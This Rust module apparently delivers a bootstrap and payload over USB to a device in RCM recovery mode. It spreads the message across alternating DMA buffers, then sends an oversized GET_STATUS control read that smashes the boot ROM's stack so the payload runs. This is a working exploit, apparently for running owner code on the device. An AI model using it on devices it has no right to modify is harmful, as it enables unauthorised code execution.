//! RCM delivery over libusb.

use std::time::Duration;

use async_trait::async_trait;
use rusb::{Context, UsbContext};
use tracing::debug;

use rb_core::device::DeviceId;
use rb_core::ports::{ExecError, RcmExecPort};

use super::message::{self, CHUNK_SIZE, RCM_PAYLOAD_ADDR, STACK_SPRAY_END};

const EP_IN: u8 = 0x81;
const EP_OUT: u8 = 0x01;
/// bmRequestType of the trigger transfer: IN, standard, endpoint recipient.
const TRIGGER_REQUEST_TYPE: u8 = 0x82;
/// GET_STATUS; the boot ROM copies the oversized response over its stack.
const TRIGGER_REQUEST: u8 = 0x00;
const IO_TIMEOUT: Duration = Duration::from_secs(3);
const TRIGGER_TIMEOUT: Duration = Duration::from_secs(1);

/// Delivers bootstrap and payload into a device in RCM mode.
///
/// One-shot: the device handle is opened for the duration of a single
/// delivery and released afterwards, successful or not.
#[derive(Debug, Default, Clone)]
pub struct UsbRcmExec;

impl UsbRcmExec {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl RcmExecPort for UsbRcmExec {
    async fn execute(
        &self,
        device: DeviceId,
        bootstrap: &[u8],
        payload: &[u8],
    ) -> Result<(), ExecError> {
        let message = message::build_message(bootstrap, payload)?;
        // bulk I/O blocks; keep it off the async threads
        tokio::task::spawn_blocking(move || deliver(device, &message))
            .await
            .map_err(|e| ExecError::Protocol(format!("transfer task failed: {e}")))?
    }
}

fn deliver(id: DeviceId, message: &[u8]) -> Result<(), ExecError> {
    let context = Context::new().map_err(map_usb)?;
    let device = context
        .devices()
        .map_err(map_usb)?
        .iter()
        .find(|d| d.bus_number() == id.bus && d.address() == id.address)
        .ok_or(ExecError::DeviceGone)?;
    let handle = device.open().map_err(map_usb)?;
    handle.claim_interface(0).map_err(map_usb)?;

    // the device id readback doubles as a readiness check
    let mut device_id = [0u8; 16];
    let read = handle
        .read_bulk(EP_IN, &mut device_id, IO_TIMEOUT)
        .map_err(map_usb)?;
    if read != device_id.len() {
        return Err(ExecError::Protocol(format!(
            "short device id read: {read} bytes"
        )));
    }
    debug!(device_id = %hex(&device_id), "target responded in RCM mode");

    // each chunk lands in one of two alternating DMA buffers
    let mut next_buffer = 0u8;
    for chunk in message.chunks(CHUNK_SIZE) {
        handle
            .write_bulk(EP_OUT, chunk, IO_TIMEOUT)
            .map_err(map_usb)?;
        next_buffer ^= 1;
    }
    // the overflow reads from the upper buffer; park transmission there
    if next_buffer != 1 {
        handle
            .write_bulk(EP_OUT, &[0u8; CHUNK_SIZE], IO_TIMEOUT)
            .map_err(map_usb)?;
    }

    // trigger the vulnerable memcpy: a status read whose length spans the
    // sprayed stack region
    let smash_len = (STACK_SPRAY_END - RCM_PAYLOAD_ADDR) as usize;
    let mut scratch = vec![0u8; smash_len];
    match handle.read_control(
        TRIGGER_REQUEST_TYPE,
        TRIGGER_REQUEST,
        0,
        0,
        &mut scratch,
        TRIGGER_TIMEOUT,
    ) {
        Ok(_) => {}
        // the transfer dies together with the boot ROM's USB stack; any of
        // these means the bootstrap took over
        Err(
            rusb::Error::Pipe
            | rusb::Error::Timeout
            | rusb::Error::Io
            | rusb::Error::NoDevice
            | rusb::Error::Other,
        ) => {}
        Err(error) => return Err(map_usb(error)),
    }
    Ok(())
}

fn map_usb(error: rusb::Error) -> ExecError {
    match error {
        rusb::Error::NoDevice | rusb::Error::NotFound => ExecError::DeviceGone,
        rusb::Error::Access => ExecError::Access,
        error => ExecError::Usb(error.to_string()),
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}
